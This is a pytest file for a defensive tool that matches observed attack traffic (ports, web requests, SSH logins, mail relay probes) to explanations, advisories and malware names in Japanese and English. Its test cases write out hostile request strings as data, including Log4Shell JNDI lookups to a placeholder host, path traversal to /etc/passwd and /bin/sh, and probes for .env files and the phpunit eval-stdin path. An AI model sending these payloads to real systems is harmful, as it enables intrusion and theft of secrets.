# SPDX-License-Identifier: Apache-2.0
"""The dictionary is whole: enough kinds, both languages, confirmed and dated facts, references that lead somewhere (R-23 … R-25, M-21)."""

from __future__ import annotations

import re
from datetime import date
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from teiten.dictionary.entries import FILES, Entry, advice, dictionary, facts, usual_check
from teiten.model import CHANNELS
from teiten.publication.vocabulary import known

KIND = re.compile(r"(?:(?:0|[1-9]\d{0,4})/(?:tcp|udp)|(?:ping|\d{1,3}\.\d{1,3})/icmp6?)")
KANA = re.compile("[ぁ-んァ-ヶ一-龠]")
ENTRIES = [(channel, entry) for channel in FILES for entry in dictionary(channel).entries]


def found(channel: str, target: bytes) -> Entry:
    entry = dictionary(channel).of(target)
    assert entry is not None, target
    return entry


def test_every_channel_has_a_file() -> None:
    assert tuple(FILES) == CHANNELS


def test_r23_at_least_150_entries_of_ports_each_kind_once() -> None:
    entries = dictionary("packet").entries
    kinds = [kind for entry in entries for kind in entry.kinds]
    assert len(entries) >= 150 and len(kinds) >= 350 and len(set(kinds)) == len(kinds)
    assert all(KIND.fullmatch(kind) for kind in kinds)
    assert all(int(kind.split("/")[0]) < 65_536 for kind in kinds if kind.endswith(("tcp", "udp")))


@pytest.mark.parametrize("channel", FILES)
def test_kinds_stand_once_and_references_lead_to_an_entry_that_says_more(channel: str) -> None:
    kinds = [kind for entry in dictionary(channel).entries for kind in entry.kinds]
    assert len(set(kinds)) == len(kinds)
    for entry in dictionary(channel).entries:
        assert not entry.see or not found(channel, entry.see.encode()).see


def test_m21_texts_are_there_in_both_languages() -> None:
    for _, entry in ENTRIES:
        for words in (entry.service, entry.abuse, entry.check):
            assert KANA.search(words.ja + "あ" if words is entry.service else words.ja) and words.en and not KANA.search(words.en), entry.key
        assert entry.abuse.ja.endswith("。") and entry.abuse.en.endswith(".") and not entry.service.en.endswith(".")


def test_r25_facts_are_dated_confirmed_and_used() -> None:
    used = {name for _, entry in ENTRIES for name in (*(one.id for one in entry.advisories), *(one.name for one in entry.malware))}
    assert used == set(facts().advisories) | set(facts().malware)
    assert {entry.check for _, entry in ENTRIES} == set(advice().values())
    for id_, advisory in facts().advisories.items():
        assert re.fullmatch(r"(?:19|20)\d\d(?:-[01]\d(?:-[0-3]\d)?)?", advisory.on), id_
        date.fromisoformat((advisory.on + "-01-01")[:10])
        assert advisory.issuer and urlsplit(advisory.confirmed_by).netloc and urlsplit(advisory.link).scheme in ("http", "https")
    for malware in facts().malware.values():
        assert urlsplit(malware.confirmed_by).netloc and (malware.since == 0 or 1988 <= malware.since <= 2026)


def test_r25_a_target_without_an_entry_has_advice_too() -> None:
    """Each channel in both languages; M-21: what to check stands beside every finding."""
    words = [usual_check(channel) for channel in CHANNELS]
    assert len({one.ja for one in words} | {one.en for one in words}) == 8


def test_r25_what_the_published_table_names_is_there() -> None:
    expected = {b"135/tcp": ("MS03-026", "W32/MSBlaster"), b"445/tcp": ("MS04-011", "W32/Sasser"), b"ping/icmp": ("", "W32/Welchia")}
    for kind, (advisory, malware) in expected.items():
        entry = found("packet", kind)
        assert malware in [one.name for one in entry.malware]
        assert not advisory or advisory in [one.id for one in entry.advisories]
    messenger = found("packet", b"1026/udp")
    assert messenger is found("packet", b"1028/udp") and messenger.group


def test_a_report_doesnt_know_the_future() -> None:
    entry = found("packet", b"445/tcp")
    then, now = entry.at(date(2007, 9, 1)), entry.at(date(2026, 1, 1))
    assert [one.name for one in then.malware] == ["W32/Sasser"] and "WannaCry" in [one.name for one in now.malware]
    assert [one.id for one in then.advisories] == ["MS04-011", "MS06-040"] and len(now.advisories) == 5


@pytest.mark.parametrize(
    ("channel", "target", "like"),
    [
        ("web", b"GET /?x=${jndi:ldap://198.51.100.1/a}", b"HEAD /${JNDI:rmi://x}"),
        ("web", b"GET /%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.1%7D", b"GET /${jndi:dns://x}"),
        ("web", b"POST http://198.51.100.7:80/post.php", b"GET http://example.com/"),
        ("web", b"CONNECT mail.example:25", b"CONNECT 198.51.100.1:443"),
        ("web", b"POST /wp-login.php", b"GET /blog/wp-includes/wlwmanifest.xml"),
        ("web", b"GET /.env", b"GET /app/.git/config"),
        ("web", b"POST /boaform/admin/formLogin", b"POST /GponForm/diag_Form?images/"),
        ("web", b"POST /cgi-bin/.%2e/.%2e/bin/sh", b"GET /icons/.%2e/%2e%2e/etc/passwd"),
        ("web", b"GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", b"POST /lib/phpunit/src/Util/PHP/eval-stdin.php"),
        ("ssh", b"test", b"test123"),
        ("ssh", b"root", b"root1"),
        ("ssh", b"Admin", b"administrator"),
        ("mail", b"BC_198.51.100.9", b"open relay test"),
    ],
)
def test_families_of_targets_have_one_entry(channel: str, target: bytes, like: bytes) -> None:
    """Seed fig. 2.2.1's URLs and accounts, and today's families."""
    assert found(channel, target) is found(channel, like)


def test_the_particular_comes_before_the_general() -> None:
    assert "luci" in found("web", b"POST /cgi-bin/luci/;stok=/locale").key
    assert "wp-login" in found("web", b"GET /wp-admin/admin.php").key
    assert found("web", b"GET /").kinds[0] == "GET /" and found("web", b"GET /admin/").key == "/login"


@pytest.mark.parametrize("channel", FILES)
def test_what_everybody_knows_is_explained(channel: str) -> None:
    """Of the curated targets that may always be named, nearly all are explained."""
    names = [target for one, target in known() if one == channel]
    without = sorted(target for target in names if dictionary(channel).of(target) is None)
    assert len(without) <= len(names) // 10, without


def test_unknown_targets_have_no_entry() -> None:
    unknown = [("packet", b"64999/tcp"), ("packet", b"\xff\x00"), ("ssh", b"zxcvbn"), ("ssh", b"123"), ("mail", b"Re: invoice"), ("web", b"GET /q")]
    for channel, target in unknown:
        assert dictionary(channel).of(target) is None


@given(channel=st.sampled_from(CHANNELS), target=st.binary(max_size=300))
def test_any_bytes_may_be_looked_up(channel: str, target: bytes) -> None:
    dictionary(channel).of(target)
